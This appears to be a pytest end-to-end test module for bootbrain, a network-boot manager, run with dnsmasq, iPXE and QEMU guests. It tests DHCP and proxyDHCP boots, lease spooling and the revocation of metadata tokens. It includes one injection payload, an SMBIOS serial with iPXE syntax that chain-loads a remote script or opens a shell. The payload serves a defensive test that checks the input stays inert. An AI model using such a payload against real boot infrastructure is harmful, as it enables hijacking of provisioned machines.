"""bootbrain + dnsmasq, end to end: real firmware, real iPXE, real kernel (issue 4, point 4).

Each site (see ``e2e_site.py``) is a lab namespace holding bootbrain under gunicorn,
the boot assets, and dnsmasq configured by ``bootbrain dnsmasq config`` (the rendered
file, checked with ``dnsmasq --test``), with bootbrain's reservations directory and the
lease hook (``bootbrain dnsmasq hook``) as its ``dhcp-script``.

The inventory is created through the REST API. QEMU guests with SMBIOS identity boot
through the whole chain, and every assertion is made from bootbrain's own records
(events, machines, boot preview), cross-checked with what the guest printed on its
console and what dnsmasq logged.

The full-DHCP site is shared by the module (each test uses its own MACs, UUIDs and
addresses, so the tests stay independent); the proxyDHCP test builds its own site
beside a foreign DHCP server in a second namespace.
"""

from __future__ import annotations

import base64
import json
import re
import secrets
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import lab
import pytest
from e2e_site import (
    BRIDGE,
    DEFAULT_PROFILE,
    GATEWAY,
    LINUX_CMDLINE,
    LINUX_PROFILE,
    LOCAL_PROFILE,
    MANUFACTURER,
    NETMASK,
    PRODUCT,
    Site,
    assert_booted_action,
    assert_complete_funnel,
    assert_preview_is_action,
    boot_guest,
    boot_until_lease,
    completion_for,
    console_cmdline,
    expected_facts,
    http,
    ip_config,
    one_shot_boot,
    smbios_for,
    start_site,
    wait_until,
)

from bootbrain.integrations import leasehook

pytestmark = pytest.mark.e2e

RANGE = ("10.213.0.100", "10.213.0.149")
#: The foreign DHCP server of the proxyDHCP test hands out these.
FOREIGN_RANGE = ("10.213.0.150", "10.213.0.199")
FOREIGN_ADDRESS = "10.213.0.2"

#: How long a guest that boots "from local disk" is watched after bootbrain recorded
#: its decision: long enough for iPXE to have fetched a kernel had it been told to.
LOCAL_BOOT_GRACE = 4.0

#: What the malicious guest's firmware reports as its serial: iPXE syntax that would
#: expand another setting, run a second command, comment out the rest, and continue
#: the line -- and a comma (written ",," on QEMU's command line).
EVIL_SERIAL = "X${manufacturer}Y && chain http://10.213.0.66/evil || shell ; #,\\"

#: A one-shot action whose initrd also reads the booted OS's documents (issue 7): the
#: NoCloud meta-data and the JSON document, both under the per-boot
#: ``IPXE_BOOT_METADATA_URL`` (which ends in ``/``).
META_PROFILE = "lab-meta"
META_CMDLINE = (
    f"{LINUX_CMDLINE} bootbrain.meta=${{IPXE_BOOT_METADATA_URL}}meta-data"
    " bootbrain.metajson=${IPXE_BOOT_METADATA_URL}metadata.json"
)


# --------------------------------------------------------------------------- the site


@dataclass
class DnsmasqSite(Site):
    """A site whose DHCP (and TFTP) server is dnsmasq, in full-DHCP or proxy mode."""

    dhcp: ClassVar[str] = "dnsmasq"
    mode: str = "dhcp"
    dnsmasq: lab.Dnsmasq | None = None
    config_text: str = ""
    #: The proxyDHCP test's foreign DHCP server (in a peer namespace).
    foreign: lab.Dnsmasq | None = None

    @property
    def hostsdir(self) -> Path:
        return self.workdir / "dnsmasq-hosts"

    def dhcp_env(self) -> dict[str, str]:
        return {
            "BOOTBRAIN_DNSMASQ__MODE": self.mode,
            "BOOTBRAIN_DNSMASQ__INTERFACE": BRIDGE,
            "BOOTBRAIN_DNSMASQ__SERVER_IP": self.net.address,
            "BOOTBRAIN_DNSMASQ__NETMASK": NETMASK,
            "BOOTBRAIN_DNSMASQ__RANGE_START": RANGE[0],
            "BOOTBRAIN_DNSMASQ__RANGE_END": RANGE[1],
            "BOOTBRAIN_DNSMASQ__LEASE_TIME": "1h",
            "BOOTBRAIN_DNSMASQ__TFTP_ROOT": str(self.tftp_root),
            "BOOTBRAIN_DNSMASQ__HOSTSDIR": str(self.hostsdir),
            "BOOTBRAIN_DNSMASQ__PID_FILE": str(self.workdir / "dnsmasq.pid"),
            "BOOTBRAIN_DNSMASQ__LEASE_FILE": str(self.workdir / "dnsmasq.leases"),
        }

    def configure_dhcp(self) -> None:
        """``bootbrain dnsmasq config --check -o FILE`` (validated with ``dnsmasq --test``)."""
        self.hostsdir.mkdir(exist_ok=True)
        conf = self.workdir / "dnsmasq.conf"
        self.cli("dnsmasq", "config", "--check", "--output", str(conf))
        self.config_text = conf.read_text()
        # And checked once more as the operator would, in the namespace where br0 is.
        check = self.net.run(["dnsmasq", "--test", f"--conf-file={conf}"], check=False)
        assert check.returncode == 0, f"dnsmasq --test: {check.stderr}{check.stdout}"
        self.dnsmasq = lab.Dnsmasq(self.net, conf, workdir=self.workdir / "dnsmasq")

    def start_dhcp(self) -> None:
        assert self.dnsmasq is not None
        self.dnsmasq.start()

    def stop_dhcp(self) -> None:
        if self.dnsmasq is not None:
            self.dnsmasq.stop()

    def dhcp_log(self) -> str:
        return self.dnsmasq.log_text() if self.dnsmasq else ""


def start_dnsmasq_site(
    net: lab.LabNetwork, boot_files: lab.BootFiles, mode: str, extra_env: dict[str, str]
) -> DnsmasqSite:
    site = DnsmasqSite(
        net=net, workdir=net.workdir / f"site-{mode}", boot_files=boot_files, mode=mode
    )
    return start_site(site, extra_env)


@pytest.fixture(scope="module")
def site(
    lab_requirements: None, lab_boot_files: lab.BootFiles, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[DnsmasqSite]:
    """The shared full-DHCP site; unknown machines get :data:`DEFAULT_PROFILE`."""
    with lab.LabNetwork(workdir=tmp_path_factory.mktemp("dnsmasq-e2e")) as net:
        s = start_dnsmasq_site(
            net, lab_boot_files, "dhcp", {"BOOTBRAIN_DEFAULT_PROFILE": DEFAULT_PROFILE}
        )
        try:
            yield s
        finally:
            s.stop()


# --------------------------------------------------------------------------- helpers


def boot_again_locally(
    site: DnsmasqSite, machine_id: int, make_guest: Callable[[str], lab.Guest]
) -> None:
    """Boot the same VM again: bootbrain must now send it to local boot.

    The guest has no disk, so "local boot" ends in firmware idling; the run is bounded:
    it is watched until bootbrain recorded the second decision, plus a grace period in
    which a kernel fetch would have shown up, then stopped.
    """
    before = len(site.events(kind="boot", machine_id=machine_id))
    started = time.monotonic()
    guest = make_guest("again")
    with guest:
        events = site.wait_events(
            "the second boot decision",
            count=before + 1,
            timeout=90,
            kind="boot",
            machine_id=machine_id,
        )
        time.sleep(LOCAL_BOOT_GRACE)
        result = guest.kill()
    print(f"{guest.name}: local boot watched for {result.duration:.1f}s")
    for event in events[before:]:
        assert event["data"]["step"] == "assigned", event
        assert event["data"]["profile"] == LOCAL_PROFILE, event
        assert event["data"]["boot_id"] is None, event  # no token: nothing to complete
    assert site.asset_fetches(since=started) == [], "a kernel was fetched on local boot"
    assert "BOOTBRAIN-LAB" not in result.text, result.describe()
    assert "Linux version" not in result.text, result.describe()


def ed25519_public_key(comment: str) -> str:
    """An ``ssh-ed25519`` public key line in the wire format bootbrain's validator parses
    (SSH string "ssh-ed25519", SSH string of 32 key bytes). The key bytes are random:
    well formed, and nobody holds a private key for it."""

    def ssh_string(data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + data

    blob = ssh_string(b"ssh-ed25519") + ssh_string(secrets.token_bytes(32))
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"


# --------------------------------------------------------------------------- tests


def one_shot_scenario(site: DnsmasqSite, **scenario: Any) -> None:
    """:func:`one_shot_boot` (same keywords), then dnsmasq's reservation and lease, and
    the local boot that follows."""
    shot = one_shot_boot(site, **scenario)
    mid, mac = shot.machine["id"], shot.mac
    address, hostname = scenario["address"], scenario["hostname"]
    # The reservation bootbrain wrote for dnsmasq (so firmware and iPXE got it too).
    reservation = site.hostsdir / f"machine-{mid}.hosts"
    assert reservation.read_text() == f"{mac},{address},{hostname}\n"
    log = site.dhcp_log()
    assert re.search(rf"DHCPACK\({BRIDGE}\) {re.escape(address)} {mac}", log), log
    boot_again_locally(site, mid, shot.make_guest)


def test_bios_full_dhcp_one_shot_linux(site: DnsmasqSite) -> None:
    """SeaBIOS + iPXE ROM: identity, the action, static ip=, completion, then local boot."""
    one_shot_scenario(
        site,
        tag="BIOS",
        mode=lab.Mode.BIOS,
        nic_model="e1000",
        romfile=None,
        uuid="4c4c4544-0042-3610-8052-b4c04f4e0001",
        address="10.213.0.50",
        hostname="node-bios",
    )


def test_uefi_full_dhcp_one_shot_linux(site: DnsmasqSite) -> None:
    """OVMF's own PXE client: dnsmasq's arch match sends snponly.efi by TFTP, then the
    same chain as BIOS."""
    one_shot_scenario(
        site,
        tag="UEFI",
        mode=lab.Mode.UEFI_NATIVE,
        nic_model="virtio",
        romfile="",
        uuid="4c4c4544-0042-3610-8052-b4c04f4e0002",
        address="10.213.0.51",
        hostname="node-uefi",
    )
    log = site.dhcp_log()
    assert re.search(r"sent \S+/snponly\.efi to 10\.213\.0\.51\b", log), log


def test_booted_os_reads_its_metadata_with_the_boot_token(site: DnsmasqSite) -> None:
    """Issue 7: the booted initrd fetches its meta-data and metadata.json with the token
    iPXE put on its cmdline, reports the hostname and the SSH key in its completion call,
    and once the boot has completed the same URLs are refused (403, recorded)."""
    address, hostname = "10.213.0.55", "node-meta"
    key = ed25519_public_key("test@lab")
    site.add_linux_profile(META_PROFILE, META_CMDLINE)
    shot = one_shot_boot(
        site,
        tag="META",
        mode=lab.Mode.BIOS,
        nic_model="e1000",
        romfile=None,
        uuid="4c4c4544-0042-3610-8052-b4c04f4e0006",
        address=address,
        hostname=hostname,
        profile=META_PROFILE,
        machine_fields={"ssh_keys": [key]},
        # meta= is the first line of meta-data; the other two come from metadata.json.
        report_extra=lambda machine: {
            "meta": f"instance-id: bootbrain-machine-{machine['id']}",
            "meta_hostname": hostname,
            "ssh_key": key,
        },
    )
    mid, boot_id = shot.machine["id"], shot.boot["data"]["boot_id"]
    # The operator's view of the same documents agrees with what the guest reported.
    config = site.api("GET", f"/machines/{mid}/config-preview?profile={META_PROFILE}")
    assert config["meta_data"].splitlines()[0] == f"instance-id: bootbrain-machine-{mid}"
    assert (config["metadata"]["hostname"], config["metadata"]["ssh_keys"]) == (hostname, [key])

    # iPXE expanded both URLs to the completion URL's per-boot token.
    cmdline = console_cmdline(shot.result)
    done = re.search(rf"bootbrain\.done=({re.escape(site.base_url)}/boot/[A-Za-z0-9_-]+/)done\b",
                     cmdline)  # fmt: skip
    assert done, cmdline
    urls = {name: done.group(1) + name for name in ("meta-data", "metadata.json")}
    assert f"bootbrain.meta={urls['meta-data']}" in cmdline.split(), cmdline
    assert f"bootbrain.metajson={urls['metadata.json']}" in cmdline.split(), cmdline
    text = shot.result.text
    assert f"BOOTBRAIN-LAB: meta instance-id: bootbrain-machine-{mid}" in text, text
    assert f"BOOTBRAIN-LAB: metajson hostname={hostname}" in text, text
    assert f"BOOTBRAIN-LAB: metajson ssh_key={key}" in text, text

    # Each document was released once, to this boot, at the guest's static address.
    served = site.wait_events("two metadata events", count=2, kind="metadata", machine_id=mid)
    assert sorted(e["data"]["document"] for e in served) == ["meta-data", "metadata.json"], served
    for event in served:
        assert (event["data"]["boot_id"], event["ip"]) == (boot_id, address), event

    # The completion revoked the token: the same URLs, fetched again, are refused.
    for url in urls.values():
        status, body = site.net.call(http, "GET", url, None, {}, 10.0)
        assert status == 403, (url, status, body)
        for secret in (key.split()[1], hostname, address):
            assert secret.encode() not in body, (url, body)
    refused = site.wait_events(
        "two metadata_refused events", count=2, kind="metadata_refused", machine_id=mid
    )
    assert sorted(e["data"]["document"] for e in refused) == ["meta-data", "metadata.json"]
    for event in refused:
        assert event["data"]["boot_id"] == boot_id, event
        assert "completed" in event["data"]["reason"], event
        assert event["ip"] == site.net.address, event  # the test process, not the guest
    # Nothing more was released.
    assert len(site.events(kind="metadata", machine_id=mid)) == 2


def test_unknown_machine_gets_the_default(site: DnsmasqSite) -> None:
    """Not in the inventory: the configured default profile boots and phones home."""
    mac = lab.random_mac()
    uuid = "4c4c4544-0042-3610-8052-b4c04f4e0003"
    smbios = smbios_for("UNKNOWN", uuid)
    assert site.api("GET", f"/machines?mac={mac}")["items"] == []
    # The CLI preview for a machine that is not in the inventory.
    render = site.cli(
        "render", "--mac", mac, "--uuid", uuid, "--serial", smbios.serial or "",
        "--manufacturer", MANUFACTURER, "--buildarch", "i386", "--platform", "pcbios",
    )  # fmt: skip
    assert "step default" in render.stderr and DEFAULT_PROFILE in render.stderr, render.stderr
    assert "ip=dhcp" in render.stdout and "IPXE_BOOT_LINUX_IP_CONFIG" not in render.stdout

    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], smbios=smbios,
                      name="unknown")  # fmt: skip
    result = boot_guest(site, guest)

    boots = site.wait_events("the unknown machine's boot event", kind="boot", mac=mac)
    for event in boots:
        assert event["machine_id"] is None, event
        assert event["data"]["step"] == "default", event
        assert event["data"]["profile"] == DEFAULT_PROFILE, event
        assert event["data"]["facts"] == expected_facts(smbios, mac, lab.Mode.BIOS), event
        assert RANGE[0] <= event["ip"] <= RANGE[1], event  # a dynamic lease, same-length octets
    completion = completion_for(site, boots[-1]["data"]["boot_id"])
    assert completion["machine_id"] is None, completion
    leased = completion["data"]["report"]["ip"]
    address, prefix = leased.split("/")
    assert prefix == "24" and RANGE[0] <= address <= RANGE[1], completion  # same-length octets
    assert completion["ip"] == address
    assert f"BOOTBRAIN-LAB-DONE status=ok ip={leased}" in result.text
    assert "ip=dhcp" in console_cmdline(result).split()
    # Discovery is off: booting registered nothing.
    assert site.api("GET", f"/machines?mac={mac}")["items"] == []


def test_malicious_smbios_serial_is_inert(site: DnsmasqSite) -> None:
    """A serial full of iPXE syntax is recorded byte for byte, identifies its machine
    (manufacturer + serial, the only key the inventory has for it) and reaches no
    script: the guest boots exactly the intended one."""
    mac = lab.random_mac()
    uuid = "4c4c4544-0042-3610-8052-b4c04f4e0004"
    address, hostname = "10.213.0.52", "node-inert"
    smbios = smbios_for("EVIL", uuid, serial=EVIL_SERIAL)
    assert ",," in " ".join(smbios.qemu_args())  # the comma survives QEMU's parser
    machine = site.add_machine(
        hostname=hostname, serial=EVIL_SERIAL, manufacturer=MANUFACTURER, address=address
    )
    mid = machine["id"]
    assert site.machine(mid)["serial"] == EVIL_SERIAL
    site.api("PUT", f"/machines/{mid}/next-boot", {"profile": LINUX_PROFILE})
    preview = assert_preview_is_action(site, mid, address, hostname, lab.Mode.BIOS)

    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], smbios=smbios,
                      name="evil")  # fmt: skip
    result = boot_guest(site, guest)
    assert result.dmi()["product_serial"] == EVIL_SERIAL  # the VM really reported it

    boots = site.wait_events("the malicious machine's boot event", kind="boot", machine_id=mid)
    for event in boots:
        assert event["data"]["facts"]["serial"] == EVIL_SERIAL, event  # exact, unexpanded
        assert "problems" not in event["data"]["facts"], event
        assert event["data"]["facts"] == expected_facts(smbios, mac, lab.Mode.BIOS), event
        assert event["data"]["step"] == "action", event
    completion = completion_for(site, boots[-1]["data"]["boot_id"], machine_id=mid)
    assert completion["data"]["report"]["ip"] == f"{address}/24", completion
    assert completion["data"]["consumed_action"] == LINUX_PROFILE
    # Known by its serial alone (no NIC on record): its lease may not name it.
    assert_complete_funnel(site, mid, boots[-1]["data"]["boot_id"], lease=None)

    cmdline = console_cmdline(result)
    for text in (preview, cmdline):
        for fragment in (
            EVIL_SERIAL,
            EVIL_SERIAL.encode().hex(),
            "${manufacturer}",
            "XLab",
            "/evil",
            "10.213.0.66",
            "shell",
        ):
            assert fragment not in text, (fragment, text)
    assert ip_config(address, hostname) in cmdline.split(), cmdline
    assert not any("evil" in r.target for r in list(site.assets.requests if site.assets else [])), (
        "the guest fetched something the serial named"
    )


def test_lease_events_reach_bootbrain(site: DnsmasqSite) -> None:
    """dnsmasq's dhcp-script (the shipped hook) reports the guest's lease to bootbrain;
    the reservation bootbrain wrote is what the guest was given."""
    address, hostname = "10.213.0.53", "node-lease"
    _, mid, leases = boot_until_lease(site, address=address, hostname=hostname, name="lease")
    added = [e for e in leases if e["data"].get("action") == "add"]
    assert added, leases
    event = added[0]
    assert event["ip"] == address, event
    assert event["machine_id"] == mid, event
    assert event["data"]["source"] == "dnsmasq", event
    assert event["data"].get("user_class") == "iPXE", event
    assert event["data"].get("arch") == 0, event  # PXEClient:Arch:00000 (BIOS)
    after = site.machine(mid)
    assert after["last_seen_ip"] == address, after


def test_lease_spooled_while_bootbrain_is_down_is_replayed(site: DnsmasqSite) -> None:
    """bootbrain stopped: the hook spools the guest's lease on disk (dnsmasq is not held
    up), and ``bootbrain serve`` records it when it starts again."""
    mac = lab.random_mac()
    address, hostname = "10.213.0.54", "node-spool"
    machine = site.add_machine(
        hostname=hostname, nics=[{"mac": mac, "boot": True}], address=address
    )
    mid = machine["id"]
    # The reservation must reach dnsmasq before the brain (and its reconciler) stops.
    wait_until(
        "the reservation's host file",
        lambda: (site.hostsdir / f"machine-{mid}.hosts").exists(),
        timeout=10,
    )
    spool = site.data_dir / "spool"
    before = set(leasehook.spooled(spool))
    site.stop_brain()
    try:
        guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], name="spool")
        with guest:
            new = wait_until(
                "a spooled lease event",
                lambda: [p for p in leasehook.spooled(spool) if p not in before],
                timeout=90,
            )
            guest.kill()
        spooled = [json.loads(p.read_text()) for p in new]
        assert any(e["mac"] == mac and e["ip"] == address for e in spooled), spooled
        assert re.search(rf"DHCPACK\({BRIDGE}\) {re.escape(address)} {mac}", site.dhcp_log())
    finally:
        site.start_brain()
    assert re.search(r"recorded [1-9]\d* lease event\(s\) spooled", site.brain_log()), (
        site.brain_log()
    )
    leases = site.wait_events("the replayed lease event", kind="lease", mac=mac, timeout=10)
    assert any(e["ip"] == address and e["machine_id"] == mid for e in leases), leases
    assert not [p for p in new if p.exists()], "replayed events are still spooled"
    assert site.machine(mid)["last_seen_ip"] == address


@pytest.fixture
def proxy_site(lab_net: lab.LabNetwork, lab_boot_files: lab.BootFiles) -> Iterator[DnsmasqSite]:
    """A foreign DHCP server (dnsmasq, addresses only) in a peer namespace, and
    bootbrain with its dnsmasq in proxyDHCP mode."""
    peer = lab_net.add_peer(f"{FOREIGN_ADDRESS}/24")
    # An IPv6 router advertisement from the foreign side spares iPXE ~13 s of waiting
    # for IPv6; proxy mode adds no RA of its own.
    peer.ip("-6", "addr", "add", "fd42:b00b::2/64", "dev", "eth0", "nodad")
    foreign_dir = lab_net.workdir / "foreign"
    foreign_dir.mkdir()
    conf = foreign_dir / "dnsmasq.conf"
    conf.write_text(
        "\n".join(
            [
                "port=0",
                "interface=eth0",
                "bind-interfaces",
                "dhcp-authoritative",
                "no-ping",
                "log-dhcp",
                f"dhcp-range={FOREIGN_RANGE[0]},{FOREIGN_RANGE[1]},{NETMASK},1h",
                f"dhcp-option=option:router,{GATEWAY}",
                "enable-ra",
                "dhcp-range=::,constructor:eth0,ra-only",
            ]
        )
        + "\n"
    )
    foreign = lab.Dnsmasq(peer, conf, workdir=foreign_dir)
    foreign.start()
    site = start_dnsmasq_site(lab_net, lab_boot_files, "proxy", {})
    site.foreign = foreign
    try:
        yield site
    finally:
        site.stop()
        foreign.stop()


def test_bios_proxy_dhcp_beside_a_foreign_server(proxy_site: DnsmasqSite) -> None:
    """Another server hands out addresses; bootbrain's dnsmasq adds only the boot
    options, naming its own address so iPXE takes them."""
    site = proxy_site
    foreign = site.foreign
    assert foreign is not None
    config = site.config_text
    boot_url = f"{site.base_url}/boot.ipxe"
    lines = [ln.strip() for ln in config.splitlines()]
    assert f"dhcp-boot=tag:ipxe,{boot_url},,{site.net.address}" in lines, config
    ranges = [ln for ln in lines if ln.startswith("dhcp-range=")]
    assert ranges and all(",proxy" in r for r in ranges), ranges  # no addresses of ours
    assert any(ln.startswith("pxe-service=") for ln in lines), config

    mac = lab.random_mac()
    uuid = "4c4c4544-0042-3610-8052-b4c04f4e0005"
    address, hostname = "10.213.0.60", "node-proxy"
    smbios = smbios_for("PROXY", uuid)
    machine = site.add_machine(
        hostname=hostname, uuid=uuid, serial=smbios.serial, manufacturer=MANUFACTURER,
        product=PRODUCT, nics=[{"mac": mac, "boot": True}], address=address,
    )  # fmt: skip
    mid = machine["id"]
    site.api("PUT", f"/machines/{mid}/next-boot", {"profile": LINUX_PROFILE})
    assert_preview_is_action(site, mid, address, hostname, lab.Mode.BIOS)

    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], smbios=smbios,
                      name="proxy")  # fmt: skip
    result = boot_guest(site, guest)
    boots = site.wait_events("the proxied boot event", kind="boot", machine_id=mid)
    leased = boots[-1]["ip"]
    assert FOREIGN_RANGE[0] <= leased <= FOREIGN_RANGE[1], boots  # same-length octets
    assert_booted_action(
        site,
        machine=machine,
        mac=mac,
        mode=lab.Mode.BIOS,
        smbios=smbios,
        result=result,
        address=address,
        hostname=hostname,
        dhcp_address=leased,
        lease_stage=False,  # the foreign server's lease: no hook of ours saw it
    )
    foreign_log = foreign.log_text()
    assert re.search(rf"DHCPACK\(eth0\) {re.escape(leased)} {mac}", foreign_log), foreign_log
    ours = site.dhcp_log()
    assert re.search(rf"PXE\({BRIDGE}\) {mac} proxy", ours), ours
    assert f"bootfile name: {boot_url}" in ours and f"next server: {site.net.address}" in ours
    assert not re.search(rf"DHCPACK\({BRIDGE}\) \S+ {mac}", ours), ours  # we gave no address
